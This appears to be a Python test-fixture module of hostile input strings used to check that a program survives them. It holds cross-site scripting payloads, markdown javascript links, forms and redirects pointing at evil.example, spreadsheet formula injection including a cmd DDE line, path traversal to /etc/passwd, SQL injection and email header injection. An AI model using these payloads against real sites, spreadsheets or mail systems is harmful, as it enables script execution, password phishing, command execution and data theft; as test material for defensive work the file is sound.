"""Texts that break careless programs, of our own making: scripts, broken characters, directions, formulas, headers."""

#: Each tries to run `owned()` or to break out of where it is written.
SCRIPTS = [
    "<script>owned()</script>",
    "</p></div></main><script>owned()</script>",
    "<img src=x onerror=owned()>",
    "<svg/onload=owned()>",
    "<details open ontoggle=owned()>open</details>",
    '"><script>owned()</script>',
    "'><img src=x onerror='owned()'>",
    "' onmouseover='owned()' autofocus onfocus='owned()' x='",
    "[press](javascript:owned())",
    "[press](JaVaScRiPt:owned())",
    "[press](java\nscript:owned())",
    "[press](&#106;avascript:owned())",
    "[press](data:text/html,<script>owned()</script>)",
    "[press](vbscript:owned())",
    '[press](https://example.org/" onclick="owned())',
    "![picture](https://example.org/x.png \"' onerror='owned()\")",
    "<javascript:owned()>",
    "<https://example.org/'onclick='owned()>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<form action=https://evil.example/><input name=password>",
    "<iframe srcdoc='<script>owned()</script>'></iframe>",
    "<math><mtext></p><img src=x onerror=owned()>",
    "<!--><script>owned()</script-->",
    "<![CDATA[<script>owned()</script>]]>",
    "<template><script>owned()</script></template>",
    "{{ 7|add:7 }} {% now 'Y' %} ${7*7} #{7*7} <%= 7*7 %>",
    "</textarea><script>owned()</script>",
    "</title><script>owned()</script>",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "%3Cscript%3Eowned()%3C/script%3E",
    "\u003cscript\u003eowned()\u003c/script\u003e",
]

#: What a spreadsheet would take for a formula.
FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example";"x")', "+1", "-1+1", "@SUM(1)", "\t=1+1", "=cmd|' /C calc'!A0"]

#: What careless programs lose, mangle or crash on.
AWKWARD = [
    "O’Brien-Ñuñez \"Quote\" 'Single' & Sons <Ltd>",
    "undefined null None NaN nil true false 0 1e999 -0",
    "../../etc/passwd /etc/passwd%00 C:\\con\\nul",
    "a" * 300,
    "е́ é é ﬁ ﷽ ß İ ı Ω K",
    "👩‍👩‍👧‍👦 🇫🇷 🏳️‍🌈 👍🏿",
    "Ṯ̤͍̥͇͈h̲́e͏͓̼̗̙̼̣͔ ͇̜̱̠͓͍ͅN͕͠e̗̱z̘̝̜̺͙p̤̺̹͍̯͚e̠̻̠͜r̨̤͍̺̖͔̖̖d̠̟̭̬̝͟i̦͖̩͓͔̤a̠̗̬͉̙n͚͜",
    "الكلّ في المجمو عة (abc) ١٢٣ English في الوسط",
    "\u202eright to left override\u202c and \u2066isolate\u2069",
    "\u200b\u200c\u200d\ufeffzero width\u00ad soft hyphen",
    "line\u2028separator\u2029paragraph\u0085next\x0bvertical\x0cform",
    "nul\x00byte bell\x07 escape\x1b[31m delete\x7f",
    "lone surrogate \ud800 half",
    "田中さんにあげて下さい 社會科學院語學研究所 울란바토르",
    "'; DROP TABLE contributions_edition; --",
    "1' OR '1'='1",
    "*unclosed _emphasis **and [a link](",
    "> > > > > > > > > > > > > > > > deep",
    "1. a\n   1. b\n      1. c\n         1. d\n            1. e",
    "From someone@example.org Thu Jan  1 00:00:00 2026\nSubject: forged",
    "name\r\nBcc: victim@example.org\r\n\r\nbody",
    "]]></content></entry><entry>",
    "@book{x, title={broken}} \\input{/etc/passwd} % comment",
    "TY  - JOUR\nER  - ",
    "word " * 150,
]

EVERYTHING = SCRIPTS + FORMULAS + AWKWARD


def one_line(text: str) -> str:
    """Return a hostile text as a name or title could carry it."""
    return text[:110]
